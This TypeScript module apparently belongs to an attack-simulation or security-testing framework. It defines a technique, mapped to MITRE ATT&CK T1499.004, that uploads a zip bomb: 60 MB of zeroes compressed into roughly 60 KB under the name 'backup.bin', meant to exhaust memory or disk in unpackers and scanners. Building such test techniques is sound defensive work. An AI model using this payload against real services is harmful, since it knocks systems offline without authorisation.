import { rawZip } from '../../../raw-zip.ts';
import { upload } from '../../../upload.ts';

/** Much nothing in little space. */
export const technique = upload({
  id: 'impact.zip-bomb-upload',
  title: 'Upload a zip bomb',
  purpose: 'Whatever unpacks it without a limit runs out of memory or disk, a scanner among it.',
  mitre: ['T1499.004'],
  sources: [
    {
      title: 'Endpoint Denial of Service: Application or System Exploitation, MITRE ATT&CK',
      url: 'https://attack.mitre.org/techniques/T1499/004/',
    },
  ],
  contentType: 'application/zip',
  // Sixty megabytes of zeroes in sixty kilobytes: enough to pass every sane limit, and harmless to a laptop.
  payload: () =>
    (bomb ??= rawZip([{ name: 'backup.bin', content: new Uint8Array(60 * 1024 * 1024) }])),
});

/** Packing it takes most of a second, and it is the same every time. */
let bomb: Uint8Array | undefined;
